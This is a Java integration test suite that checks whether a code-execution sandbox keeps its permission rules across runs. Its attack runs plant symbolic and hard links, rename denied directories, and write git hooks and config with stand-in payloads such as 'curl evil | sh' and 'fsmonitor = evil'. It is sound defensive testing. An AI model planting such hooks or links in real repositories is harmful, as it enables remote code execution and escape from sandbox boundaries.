package dev.codeexec.sandbox;

import static dev.codeexec.sandbox.SandboxTesting.python;
import static dev.codeexec.sandbox.SandboxTesting.sh;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.codeexec.engine.CodeExecException;
import dev.codeexec.engine.PolicyViolationException;
import dev.codeexec.engine.PutFile;
import dev.codeexec.engine.RunProgramSpec;
import dev.codeexec.engine.RunResult;
import dev.codeexec.engine.Workspace;
import dev.codeexec.engine.WorkspacePolicy;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * Attacks across two runs: what one run leaves in its workspace (or in a writable host directory) must not change
 * what a later run's boundary means. Each first run plays the attacker; each second run (or the engine preparing it)
 * must still see the rules as written. Every attack is paired with a positive control.
 */
class SandboxAcrossRunsIT extends AbstractSandboxIT {

    private final String secret = "s3cr3t-" + UUID.randomUUID();

    private SandboxEngine engineWith(Function<PermissionProfile, PermissionProfile> profile) {
        return SandboxEngine.builder().rootDir(tmp.resolve("root-" + UUID.randomUUID()))
                .profile(profile.apply(PermissionProfile.workspaceWrite())).build();
    }

    /** A host directory holding a file, that the sandbox user may write (as a write grant must be). */
    private Path hostDir(String name, String file, String content) throws IOException {
        Path d = Files.createDirectories(tmp.resolve(name));
        Files.writeString(d.resolve(file), content);
        SandboxTesting.claimForSandbox(d);
        return d;
    }

    private static String tree(Path dir) throws IOException {
        try (Stream<Path> s = Files.walk(dir)) {
            return String.join("\n", s.map(p -> dir.relativize(p).toString()).sorted().toList());
        }
    }

    // ---- grants for workspace paths a previous run replaced by a link ----

    @Test
    void should_not_open_a_link_a_previous_run_planted_where_a_grant_points() throws IOException {
        Path host = hostDir("host-target", "config.json", "HOST");
        Path root = Path.of(ws.path());
        // Run 1: the attacker replaces work/data (and the parent of work/sub/data) by links to a host directory.
        RunResult plant = sh(engine, ws, "rm -rf data sub; ln -s '" + host + "' data; ln -s '" + host.getParent()
                + "' sub; echo planted");
        assertThat(plant.stdout()).isEqualTo("planted\n");
        String write = "echo pwned > \"$WORK_DIR/data/config.json\"; cat \"$WORK_DIR/data/config.json\"";
        for (String grant : List.of(root.resolve("work/data").toString(), root.resolve("work/sub/host-target")
                .toString())) {
            assertThatThrownBy(() -> engine.runProgram(ws, RunProgramSpec.builder("/bin/sh").args("-c", write)
                    .cwd("work").timeout(Duration.ofSeconds(30)).build(), AdditionalPermissions.write(grant)))
                    .as(grant).isInstanceOf(PolicyViolationException.class).hasMessageContaining("symbolic link");
            assertThatThrownBy(() -> engine.runProgram(ws, RunProgramSpec.builder("/bin/sh").args("-c", "true")
                    .cwd("work").build(), AdditionalPermissions.read(grant))).as(grant)
                    .isInstanceOf(PolicyViolationException.class);
        }
        assertThat(Files.readString(host.resolve("config.json"))).isEqualTo("HOST");
        // Positive control: a grant of a real workspace directory works, and the link itself stays usable.
        Files.delete(root.resolve("work/data"));
        Files.createDirectories(root.resolve("work/data"));
        SandboxTesting.claimForSandbox(root.resolve("work/data"));
        RunResult ok = engine.runProgram(ws, RunProgramSpec.builder("/bin/sh").args("-c", write).cwd("work")
                .timeout(Duration.ofSeconds(30)).build(), AdditionalPermissions.write(root.resolve("work/data")
                .toString()));
        assertThat(ok.stdout()).isEqualTo("pwned\n");
        assertThat(Files.readString(host.resolve("config.json"))).isEqualTo("HOST");
    }

    // ---- denied paths and glob matches after a run renamed them or a parent ----

    @Test
    void should_keep_denied_paths_hidden_after_a_run_tried_to_rename_them_or_their_parents() throws IOException {
        try (SandboxEngine e = engineWith(p -> p.withNoAccessPaths("work/secrets/key.txt", "work/vault")
                .withNoAccessGlobs("work/private/**"))) {
            Workspace w = e.manager().createWorkspace("deny", WorkspacePolicy.DEFAULT);
            Path root = Path.of(w.path());
            // The secrets got there outside the file API (the API refuses to write denied paths).
            for (String f : List.of("work/secrets/key.txt", "work/vault/db.txt", "work/private/token.txt")) {
                Files.createDirectories(root.resolve(f).getParent());
                Files.writeString(root.resolve(f), secret);
            }
            Files.writeString(root.resolve("work/secrets/readme.txt"), "public\n");
            SandboxTesting.claimForSandbox(root.resolve("work"));
            // Run 1: move the hidden things, or any directory above them, to names no rule covers.
            RunResult attack = python(e, w, SandboxTesting.TRY
                    + "for a, b in [('secrets', 'open'), ('vault', 'v2'), ('private', 'public'), ('secrets/key.txt',"
                    + " 'k.txt'), ('.', '../w2')]:\n"
                    + "    print(a, attempt(lambda: os.rename(a, b)))\n"
                    + "print('w', attempt(lambda: os.rename(os.environ['WORK_DIR'], os.environ['WORKSPACE_DIR']"
                    + " + '/moved')))\n");
            assertThat(attack.stdout()).doesNotContain(" ok").containsPattern("secrets E(BUSY|XDEV)")
                    .containsPattern("vault E(BUSY|XDEV)").containsPattern("private E(BUSY|XDEV)");
            // Run 2: the rules still name the hidden content; nothing in the workspace shows it.
            RunResult later = sh(e, w, "grep -rl '" + secret + "' \"$WORKSPACE_DIR\" 2>/dev/null; "
                    + "cat secrets/key.txt vault/db.txt private/token.txt 2>/dev/null; echo end");
            assertThat(later.stdout()).doesNotContain(secret).isEqualTo("end\n");
            // Positive control: the rest of the directories is usable, renames below the hidden ones included.
            RunResult ok = sh(e, w, "cat secrets/readme.txt; mkdir -p secrets/sub && mv secrets/sub secrets/sub2 "
                    + "&& echo moved; echo x > secrets/new.txt && echo wrote");
            assertThat(ok.stdout()).isEqualTo("public\nmoved\nwrote\n");
        }
    }

    @Test
    void should_keep_a_denied_path_inside_a_write_grant_hidden_after_a_run_tried_to_rename_its_parent()
            throws IOException {
        Path grant = hostDir("results", "notes.txt", "notes");
        Path secretFile = grant.resolve("team/private/key.txt");
        Files.createDirectories(secretFile.getParent());
        Files.writeString(secretFile, secret);
        SandboxTesting.claimForSandbox(grant);
        try (SandboxEngine e = engineWith(p -> p.withWritePaths(grant.toString())
                .withNoAccessPaths(secretFile.toString()))) {
            Workspace w = e.manager().createWorkspace("grant", WorkspacePolicy.DEFAULT);
            RunResult attack = python(e, w, SandboxTesting.TRY
                    + "g = '" + grant + "'\n"
                    + "print('team', attempt(lambda: os.rename(g + '/team', g + '/t2')))\n"
                    + "print('private', attempt(lambda: os.rename(g + '/team/private', g + '/p2')))\n");
            assertThat(attack.stdout()).containsPattern("team E(BUSY|XDEV)").containsPattern("private E(BUSY|XDEV)");
            RunResult later = sh(e, w, "grep -rl '" + secret + "' '" + grant + "' 2>/dev/null; echo end");
            assertThat(later.stdout()).isEqualTo("end\n");
            assertThat(Files.readString(secretFile)).isEqualTo(secret);
            // Positive control: the grant itself stays writable.
            assertThat(sh(e, w, "echo more >> '" + grant + "/notes.txt' && echo wrote").stdout()).isEqualTo("wrote\n");
        }
    }

    @Test
    void should_refuse_to_run_when_a_hidden_file_has_another_name_and_say_which_rule() throws IOException {
        try (SandboxEngine e = engineWith(p -> p.withNoAccessPaths("work/secret.txt"))) {
            Workspace w = e.manager().createWorkspace("link", WorkspacePolicy.DEFAULT);
            Path root = Path.of(w.path());
            Files.writeString(root.resolve("work/secret.txt"), secret);
            // A second name, made before the rule covered the file (by a run of an engine without it, say).
            Files.createLink(root.resolve("work/notes.txt"), root.resolve("work/secret.txt"));
            assertThatThrownBy(() -> sh(e, w, "cat notes.txt")).isInstanceOf(PolicyViolationException.class)
                    .hasMessageContaining("work/secret.txt").hasMessageContaining("hard link");
            // Positive control: without the other name the file is hidden and the run works.
            Files.delete(root.resolve("work/notes.txt"));
            RunResult ok = sh(e, w, "cat secret.txt 2>/dev/null; echo ran");
            assertThat(ok.stdout()).isEqualTo("ran\n");
        }
    }

    // ---- protected metadata ----

    @Test
    void should_protect_a_repository_the_application_staged_below_the_workspace_root() {
        engine.fs().putFiles(ws, List.of(PutFile.of("work/proj/.git/HEAD", "ref: refs/heads/main\n"),
                PutFile.of("work/proj/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
                PutFile.of("work/proj/src.txt", "source")));
        RunResult r = python(engine, ws, SandboxTesting.TRY
                + "print('hook', attempt(lambda: open('proj/.git/hooks/pre-commit', 'w').write('curl evil')))\n"
                + "print('new-hook', attempt(lambda: open('proj/.git/hooks/post-checkout', 'w')))\n"
                + "print('move-git', attempt(lambda: os.rename('proj/.git', 'proj/git')))\n"
                + "print('move-repo', attempt(lambda: os.rename('proj', 'proj2')))\n"
                + "print('head', open('proj/.git/HEAD').read().strip())\n"
                + "open('proj/src.txt', 'a').write(' edited')\n"
                + "print('work ok')\n");
        assertThat(r.exitCode()).as(r.stderr()).isZero();
        assertThat(r.stdout()).containsPattern("hook E(ROFS|ACCES)").containsPattern("new-hook E(ROFS|ACCES)")
                .containsPattern("move-git E(BUSY|ROFS|XDEV)").containsPattern("move-repo E(BUSY|ROFS|XDEV)");
        assertThat(engine.fs().readFile(ws, "work/proj/.git/hooks/pre-commit", 0, 100).contentAsString())
                .isEqualTo("#!/bin/sh\nexit 0\n");
        // Positive control: the repository is readable and its working tree writable.
        assertThat(r.stdout()).contains("head ref: refs/heads/main").contains("work ok");
        assertThat(engine.fs().readFile(ws, "work/proj/src.txt", 0, 100).contentAsString())
                .isEqualTo("source edited");
    }

    /** Run 1 of the nested-repository attacks: a program makes a repository below the workspace root. */
    private static final String GIT_INIT = "git init -q proj && echo 'exit 0' > proj/.git/hooks/pre-commit "
            + "&& echo 'same run' >> proj/.git/hooks/pre-commit && echo made";

    /** Run 2: tries to change the repository's hooks and configuration, and to move it; then ordinary work. */
    private static final String TAMPER = SandboxTesting.TRY
            + "print('hook', attempt(lambda: open('proj/.git/hooks/pre-commit', 'w').write('curl evil | sh')))\n"
            + "print('new-hook', attempt(lambda: open('proj/.git/hooks/post-checkout', 'w').write('evil')))\n"
            + "print('config', attempt(lambda: open('proj/.git/config', 'a').write('[core]\\nfsmonitor = evil\\n')))\n"
            + "print('head', open('proj/.git/HEAD').read().strip())\n"
            + "print('file', attempt(lambda: open('proj/notes.txt', 'w').write('mine')))\n"
            + "print('move-git', attempt(lambda: os.rename('proj/.git', 'proj/git')))\n"
            + "print('move-repo', attempt(lambda: os.rename('proj', 'proj2')))\n";

    @Test
    void should_protect_a_repository_a_run_created_below_the_workspace_root_from_the_next_run_on() {
        // Run 1 creates the repository; within that run it is the program's (first creation below the top is not
        // held by a placeholder), so writing its hook works.
        RunResult made = sh(engine, ws, GIT_INIT);
        assertThat(made.stdout()).as(made.stderr()).isEqualTo("made\n");
        // Run 2 finds it and mounts it read-only, as the root's .git.
        RunResult r = python(engine, ws, TAMPER);
        assertThat(r.exitCode()).as(r.stderr()).isZero();
        assertThat(r.stdout()).containsPattern("hook E(ROFS|ACCES)").containsPattern("new-hook E(ROFS|ACCES)")
                .containsPattern("config E(ROFS|ACCES)").containsPattern("move-git E(BUSY|ROFS|XDEV)")
                .containsPattern("move-repo E(BUSY|ROFS|XDEV)");
        assertThat(engine.fs().readFile(ws, "work/proj/.git/hooks/pre-commit", 0, 100).contentAsString())
                .isEqualTo("exit 0\nsame run\n");
        assertThat(engine.fs().list(ws, "work/proj/.git/hooks")).noneMatch(f -> f.path().endsWith("post-checkout"));
        // Positive control: the repository is readable, the files next to it are writable.
        assertThat(r.stdout()).contains("head ref: refs/heads/").contains("file ok");
        assertThat(engine.fs().readFile(ws, "work/proj/notes.txt", 0, 100).contentAsString()).isEqualTo("mine");
        // And git itself cannot change it either: a commit needs to write .git.
        RunResult commit = sh(engine, ws, "git -C proj -c user.name=a -c user.email=a@example.org commit -q "
                + "--allow-empty --no-verify -m x 2>&1 || echo refused");
        assertThat(commit.stdout()).contains("refused");
    }

    @Test
    void should_leave_a_programs_own_repository_writable_when_the_profile_allows_nested_metadata_writes() {
        try (SandboxEngine e = engineWith(PermissionProfile::withNestedMetadataWrites)) {
            Workspace w = e.manager().createWorkspace("own-repos", WorkspacePolicy.DEFAULT);
            assertThat(sh(e, w, GIT_INIT).stdout()).isEqualTo("made\n");
            RunResult r = python(e, w, TAMPER);
            assertThat(r.stdout()).as(r.stderr()).contains("hook ok").contains("new-hook ok").contains("config ok")
                    .contains("file ok").contains("move-git ok").contains("move-repo ok");
            assertThat(sh(e, w, "mv proj2/git proj2/.git && mv proj2 proj && echo back").stdout()).isEqualTo("back\n");
            RunResult commit = sh(e, w, "git -C proj -c user.name=a -c user.email=a@example.org commit -q "
                    + "--allow-empty --no-verify -m x && git -C proj log --oneline | wc -l");
            assertThat(commit.stdout().strip()).as(commit.stderr()).isEqualTo("1");
            // The root's own stays protected: no repository there, and none can be made.
            RunResult root = sh(e, w, "mkdir \"$WORKSPACE_DIR/.git/x\" 2>/dev/null && echo made-root || echo refused");
            assertThat(root.stdout()).isEqualTo("refused\n");
        }
    }

    @Test
    void should_protect_the_directory_a_git_file_of_a_previous_run_points_at() {
        // Run 1: a repository whose .git is a file pointing at a directory elsewhere in the workspace.
        RunResult made = sh(engine, ws, "git init -q --separate-git-dir=\"$PWD/gitdata\" wt && cat wt/.git "
                + "&& echo 'exit 0' > gitdata/hooks/pre-commit && echo made");
        assertThat(made.stdout()).as(made.stderr()).contains("gitdir: ").endsWith("made\n");
        RunResult r = python(engine, ws, SandboxTesting.TRY
                + "print('hook', attempt(lambda: open('gitdata/hooks/pre-commit', 'w').write('evil')))\n"
                + "print('pointer', attempt(lambda: open('wt/.git', 'w').write('gitdir: /tmp/evil')))\n"
                + "print('file', attempt(lambda: open('wt/notes.txt', 'w').write('mine')))\n");
        assertThat(r.stdout()).as(r.stderr()).containsPattern("hook E(ROFS|ACCES)")
                .containsPattern("pointer E(ROFS|ACCES)").contains("file ok");
        assertThat(engine.fs().readFile(ws, "work/gitdata/hooks/pre-commit", 0, 100).contentAsString())
                .isEqualTo("exit 0\n");
    }

    @Test
    void should_refuse_to_run_when_a_previous_run_made_a_nested_protected_name_a_link() {
        RunResult plant = sh(engine, ws, "mkdir -p proj real/hooks && ln -s ../real proj/.git && echo planted");
        assertThat(plant.stdout()).isEqualTo("planted\n");
        assertThatThrownBy(() -> sh(engine, ws, "echo evil > real/hooks/pre-commit"))
                .isInstanceOf(PolicyViolationException.class).hasMessageContaining("'work/proj/.git'")
                .hasMessageContaining("symbolic link");
        assertThat(Path.of(ws.path(), "work/real/hooks/pre-commit")).doesNotExist();
        // Positive control: once the link is gone, runs work again.
        engine.fs().delete(ws, "work/proj/.git");
        assertThat(sh(engine, ws, "echo ok").stdout()).isEqualTo("ok\n");
    }

    @Test
    void should_refuse_a_nested_protected_file_that_a_hard_link_made_earlier_would_keep_writable() {
        RunResult plant = sh(engine, ws, "git init -q proj && echo 'exit 0' > hook "
                + "&& ln hook proj/.git/hooks/pre-commit && echo planted");
        assertThat(plant.stdout()).as(plant.stderr()).isEqualTo("planted\n");
        assertThatThrownBy(() -> sh(engine, ws, "echo 'curl evil | sh' > hook"))
                .isInstanceOf(PolicyViolationException.class)
                .hasMessageContaining("work/proj/.git/hooks/pre-commit").hasMessageContaining("hard link");
        assertThat(engine.fs().readFile(ws, "work/proj/.git/hooks/pre-commit", 0, 100).contentAsString())
                .isEqualTo("exit 0\n");
        // Positive control: without the other name, runs work and the hook stays read-only.
        engine.fs().delete(ws, "work/hook");
        RunResult ok = sh(engine, ws, "echo evil > proj/.git/hooks/pre-commit 2>/dev/null || echo refused");
        assertThat(ok.stdout()).isEqualTo("refused\n");
    }

    @Test
    void should_forget_what_it_remembered_of_a_workspace_when_the_workspace_is_cleaned_up() {
        Workspace w = engine.manager().createWorkspace("forget", WorkspacePolicy.DEFAULT);
        assertThat(sh(engine, ws, "true").exitCode()).isZero();
        assertThat(sh(engine, w, "mkdir -p a/b/c && echo ok").stdout()).isEqualTo("ok\n");
        assertThat(sh(engine, w, "true").exitCode()).isZero();
        assertThat(engine.rememberedDirectories(w)).as("the scans remember its tree").isGreaterThan(3);

        engine.manager().cleanup(w);

        assertThat(engine.rememberedDirectories(w)).isZero();
        assertThat(engine.rememberedDirectories(ws)).as("another workspace is not affected").isPositive();
    }

    @Test
    void should_protect_repositories_anywhere_in_a_host_directory_granted_writable() throws IOException {
        Path grant = hostDir("projects", "todo.txt", "todo");
        Path hook = grant.resolve("app/.git/hooks/pre-commit");
        Files.createDirectories(hook.getParent());
        Files.writeString(hook, "#!/bin/sh\nexit 0\n");
        Files.writeString(grant.resolve("app/main.py"), "print(1)\n");
        SandboxTesting.claimForSandbox(grant);
        try (SandboxEngine e = engineWith(p -> p.withWritePaths(grant.toString()))) {
            Workspace w = e.manager().createWorkspace("repos", WorkspacePolicy.DEFAULT);
            RunResult r = sh(e, w, "echo evil > '" + hook + "' 2>/dev/null && echo hooked; "
                    + "mkdir '" + grant + "/.git' 2>/dev/null && echo created-root-git; "
                    + "echo 'print(2)' > '" + grant + "/app/main.py' && echo edited");
            assertThat(r.stdout()).doesNotContain("hooked").doesNotContain("created-root-git").contains("edited");
            assertThat(Files.readString(hook)).isEqualTo("#!/bin/sh\nexit 0\n");
            assertThat(grant.resolve(".git")).doesNotExist();
            assertThat(Files.readString(grant.resolve("app/main.py"))).isEqualTo("print(2)\n");
        }
    }

    @Test
    void should_not_let_a_run_create_a_repository_at_the_workspace_root_unless_the_profile_allows_it() {
        RunResult r = sh(engine, ws, "cd \"$WORKSPACE_DIR\"; mkdir -p .git/hooks 2>/dev/null && echo made-hooks; "
                + "echo '[core]' > .git/config 2>/dev/null && echo made-config; "
                + "ls -a .git | wc -l; mkdir sub && echo made-sub");
        assertThat(r.stdout()).doesNotContain("made-hooks").doesNotContain("made-config").contains("made-sub");
        // Nothing is left behind on the host: the name is free again between runs.
        assertThat(Path.of(ws.path(), ".git")).doesNotExist();
        assertThat(Path.of(ws.path(), ".codeexec")).doesNotExist();
        // Positive control: a profile that allows it lets the program create one, which is read-only next time.
        try (SandboxEngine e = engineWith(PermissionProfile::withProtectedMetadataCreation)) {
            Workspace w = e.manager().createWorkspace("init", WorkspacePolicy.DEFAULT);
            RunResult made = sh(e, w, "cd \"$WORKSPACE_DIR\"; mkdir -p .git/hooks && echo hook > .git/hooks/x "
                    + "&& echo made");
            assertThat(made.stdout()).isEqualTo("made\n");
            RunResult later = sh(e, w, "cd \"$WORKSPACE_DIR\"; echo evil > .git/hooks/x 2>/dev/null || echo "
                    + "refused; cat .git/hooks/x");
            assertThat(later.stdout()).isEqualTo("refused\nhook\n");
        }
    }

    @Test
    void should_refuse_a_protected_file_that_a_hard_link_made_earlier_would_keep_writable() throws IOException {
        try (SandboxEngine e = engineWith(PermissionProfile::withProtectedMetadataCreation)) {
            Workspace w = e.manager().createWorkspace("hardlink", WorkspacePolicy.DEFAULT);
            // Run 1 (allowed to create .git): plants a hook with a second name in the writable tree.
            RunResult plant = sh(e, w, "cd \"$WORKSPACE_DIR\"; mkdir -p .git/hooks && echo 'exit 0' > work/hook "
                    + "&& ln work/hook .git/hooks/pre-commit && echo planted");
            assertThat(plant.stdout()).isEqualTo("planted\n");
            // Run 2 would change the protected hook through the other name: refused instead.
            assertThatThrownBy(() -> sh(e, w, "echo 'curl evil | sh' > hook")).isInstanceOf(
                    PolicyViolationException.class).hasMessageContaining(".git/hooks/pre-commit")
                    .hasMessageContaining("hard link");
            assertThat(Files.readString(Path.of(w.path(), ".git/hooks/pre-commit"))).isEqualTo("exit 0\n");
            // Positive control: once the other name is gone, runs work and the hook stays read-only.
            e.fs().delete(w, "work/hook");
            RunResult ok = sh(e, w, "echo evil > \"$WORKSPACE_DIR/.git/hooks/pre-commit\" 2>/dev/null || echo "
                    + "refused");
            assertThat(ok.stdout()).isEqualTo("refused\n");
        }
    }

    // ---- the engine preparing a workspace never follows a planted link ----

    @Test
    void should_not_follow_a_planted_link_when_preparing_a_host_directory_as_workspace() throws IOException {
        Path dir = Files.createDirectories(tmp.resolve("operator-ws"));
        Path host = Files.createDirectories(tmp.resolve("elsewhere"));
        if (SandboxTesting.isRoot()) {
            Files.setAttribute(dir, "unix:uid", SandboxUser.DEFAULT_UID);
        }
        RunProgramSpec spec = RunProgramSpec.builder("/bin/sh").args("-c", "rm -rf ../work && ln -s '" + host
                + "' ../work && echo planted").cwd("work").timeout(Duration.ofSeconds(30)).build();
        // Run 1 (the directory persists between runs, as the command line's --workspace does).
        assertThat(engine.runInDirectory(dir, spec, AdditionalPermissions.NONE).stdout()).isEqualTo("planted\n");
        assertThat(Files.isSymbolicLink(dir.resolve("work"))).isTrue();
        // Preparing run 2 would create work/inputs through the link, in the host directory: refused instead.
        assertThatThrownBy(() -> engine.runInDirectory(dir, RunProgramSpec.builder("true").build(),
                AdditionalPermissions.NONE)).isInstanceOf(CodeExecException.class);
        assertThat(tree(host)).isEmpty();
        // The same for a workspace of the engine: a run directory is never created through a planted link.
        RunResult plant = sh(engine, ws, "rm -rf \"$WORKSPACE_DIR/runs\" && ln -s '" + host
                + "' \"$WORKSPACE_DIR/runs\" && echo planted");
        assertThat(plant.stdout()).isEqualTo("planted\n");
        assertThatThrownBy(() -> sh(engine, ws, "true")).isInstanceOf(CodeExecException.class);
        assertThat(tree(host)).isEmpty();
        // Positive control: with the link replaced by a directory, both prepare and run again.
        Files.delete(dir.resolve("work"));
        Files.createDirectory(dir.resolve("work"));
        if (SandboxTesting.isRoot()) {
            Files.setAttribute(dir.resolve("work"), "unix:uid", SandboxUser.DEFAULT_UID);
        }
        assertThat(engine.runInDirectory(dir, RunProgramSpec.builder("/bin/sh").args("-c", "echo ok").cwd("work")
                .build(), AdditionalPermissions.NONE).stdout()).isEqualTo("ok\n");
        assertThat(Files.isDirectory(dir.resolve("work/inputs"), LinkOption.NOFOLLOW_LINKS)).isTrue();
    }
}
